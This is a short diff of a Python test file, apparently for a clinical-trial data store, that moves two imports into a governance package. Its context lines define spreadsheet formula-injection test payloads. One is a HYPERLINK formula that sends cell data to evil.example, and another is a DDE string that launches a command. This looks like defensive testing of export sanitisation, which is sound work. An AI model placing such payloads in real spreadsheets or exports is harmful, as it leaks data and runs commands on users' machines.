@@ -19,9 +19,9 @@ from pathlib import Path
 from helpers import HAIR_COUNTS_HEADER, HAIR_COUNTS_ROWS, RANDOMIZATION_HEADER, SUBJECTS_HEADER, SUBJECTS_ROWS, load, new_store
 
 from schemas import DOMAINS
-from trial import data_queries as dq
+from trial.governance import data_queries as dq
+from trial.governance.users import add_user
 from trial.store import Store
-from trial.users import add_user
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 FORMULAS = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "\r=1+1")
